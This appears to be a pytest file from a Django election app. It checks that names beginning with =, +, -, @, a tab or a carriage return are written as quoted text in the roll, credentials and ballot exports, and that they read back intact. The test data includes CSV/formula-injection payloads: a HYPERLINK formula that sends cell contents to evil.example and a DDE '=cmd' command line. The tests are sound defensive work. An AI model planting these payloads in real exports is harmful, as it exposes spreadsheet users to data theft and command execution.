"""Exports cannot carry formulas: a name starting with =, +, -, @, a tab or a carriage return is written
as quoted text to every export (the roll and credentials .xlsx, the ballots' CSVs in the zip and in
`daihoi tally --export-dir`), while the database keeps the real name and our own readers read it back."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from contextlib import redirect_stdout

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from daihoi import tally_cli
from daihoi.cells import safe_cell, safe_text, unquote_cell
from daihoi.congress.access import Role
from daihoi.congress.models import Congress, Delegate, Guest
from daihoi.voting import documents
from tests.factories import login_as, make_congress
from tests.support.counting import make_election
from tests.support.roll import run_import

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B3,"Bấm vào đây")'
DANGEROUS = [HYPERLINK, "+Lê Văn Cộng", "-Trần Thị Trừ", "@Phạm Văn A", "\tVõ Thị Tab", "\rĐỗ Văn CR"]


# The function --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_gets_a_quote_and_reads_back(text):
    assert safe_text(text) == "'" + text
    assert unquote_cell(safe_text(text)) == text


def test_other_values_are_left_alone_and_xml_breaking_characters_replaced():
    assert safe_cell("Nguyễn Văn A") == "Nguyễn Văn A"
    assert safe_cell("A-1") == "A-1"  # only the first character matters
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    assert safe_cell("Lê\x00Văn\x1b") == "Lê\ufffdVăn\ufffd"
    assert unquote_cell("'Nguyễn") == "'Nguyễn"  # a quote before ordinary text is the text's own


# The roll and the credentials report (.xlsx) ----------------------------------------------------------


def _cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))  # not data_only: a formula would be read as a formula
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _congress_with_dangerous_names() -> Congress:
    congress = make_congress(delegates=len(DANGEROUS) + 1, state=Congress.State.PREPARATION)
    for number, name in enumerate(DANGEROUS, start=1):
        Delegate.objects.filter(congress=congress, number=number).update(
            full_name=name,
            position="=1+1",
            credential=Delegate.Credential.REJECTED,
            credential_reason="@SUM(A1)",
        )
    # A control character stored before names were cleaned: NUL (which made every roll export fail) where
    # the database can hold it; PostgreSQL refuses NUL in text, so ESC there.
    control = "\x00" if connection.vendor == "sqlite" else "\x1b"
    Delegate.objects.filter(congress=congress, number=len(DANGEROUS) + 1).update(
        full_name=f"Lê{control}Văn Nul"
    )
    Guest.objects.create(
        congress=congress, full_name="=cmd|' /C calc'!A0", organization_name="-UB", code="G1"
    )
    return congress


def test_the_roll_export_writes_every_dangerous_name_as_quoted_text_and_the_database_keeps_it():
    congress = _congress_with_dangerous_names()
    response = login_as(Client(), congress, Role.ORGANIZER).get(reverse("roll_export", args=[congress.slug]))
    assert response.status_code == 200  # a NUL in a name made every roll export fail
    cells = _cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for name in [*DANGEROUS, "=cmd|' /C calc'!A0", "-UB", "=1+1", "@SUM(A1)"]:
        assert "'" + name.replace("\r", "_x000D_") in texts or "'" + name in texts, name
        assert name not in texts, name
    assert "Lê\ufffdVăn Nul" in texts
    stored = set(Delegate.objects.filter(congress=congress).values_list("full_name", flat=True))
    assert set(DANGEROUS) <= stored


def test_the_exported_roll_imports_again_with_the_real_names():
    congress = make_congress(delegates=3, state=Congress.State.PREPARATION)
    names = ["+Lê Văn Cộng", "-Trần Thị Trừ", "@Phạm Văn A"]
    for number, name in enumerate(names, start=1):
        Delegate.objects.filter(congress=congress, number=number).update(full_name=name)
    data = (
        login_as(Client(), congress, Role.ORGANIZER).get(reverse("roll_export", args=[congress.slug])).content
    )
    other = make_congress(delegates=0, state=Congress.State.PREPARATION)
    report = run_import(other, data, "danh-sach.xlsx")
    assert report.is_ok, [p.message for p in report.problems]
    assert (
        list(Delegate.objects.filter(congress=other).order_by("number").values_list("full_name", flat=True))
        == names
    )


def test_the_credentials_report_export_quotes_a_dangerous_reason_and_name():
    congress = _congress_with_dangerous_names()
    response = login_as(Client(), congress, Role.CREDENTIALS).get(
        reverse("credentials_report_export", args=[congress.slug])
    )
    assert response.status_code == 200
    cells = _cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'@SUM(A1)" in texts and "@SUM(A1)" not in texts
    assert "'" + HYPERLINK in texts


# The ballots (CSV in the zip and in --export-dir) ------------------------------------------------------


@pytest.fixture
def election():
    names = [HYPERLINK, "+Lê Văn Cộng", "-Trần Thị Trừ", "@Phạm Văn A", "Nguyễn Văn E"]
    return make_election(make_congress(delegates=8), candidates=5, seats=3, base=8, names=names)


def _names_in(candidates_csv: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(candidates_csv)))
    return [name for _id, name in rows[1:]]


def test_the_ballots_zip_quotes_dangerous_names(election):
    archive = zipfile.ZipFile(io.BytesIO(documents.zip_bytes(election)))
    names = _names_in(archive.read("candidates.csv").decode())
    stored = list(election.candidates.order_by("ballot_position").values_list("full_name", flat=True))
    assert names == [safe_text(n) for n in stored]
    assert "'" + HYPERLINK in names and "'@Phạm Văn A" in names and "Nguyễn Văn E" in names


def test_the_export_dir_quotes_names_and_plain_daihoi_tally_counts_them_back_by_their_real_names(
    election, tmp_path
):
    out = io.StringIO()
    call_command(
        "tally",
        "--from-db",
        str(election.pk),
        "--export-dir",
        str(tmp_path),
        stdout=out,
        stderr=io.StringIO(),
    )
    from_db = json.loads(out.getvalue())
    exported = (tmp_path / "candidates.csv").read_text(encoding="utf-8")
    assert "'" + HYPERLINK.replace('"', '""') in exported
    command = documents.export_election(election).command
    args = [a.replace("candidates.csv", str(tmp_path / "candidates.csv")) for a in command[2:]]
    args = [a.replace("ballots.csv", str(tmp_path / "ballots.csv")) for a in args]
    recount = io.StringIO()
    with redirect_stdout(recount):
        assert tally_cli.main(args) == 0
    assert json.loads(recount.getvalue()) == from_db
    assert {c["name"] for c in from_db["candidates"]} >= {HYPERLINK, "@Phạm Văn A"}
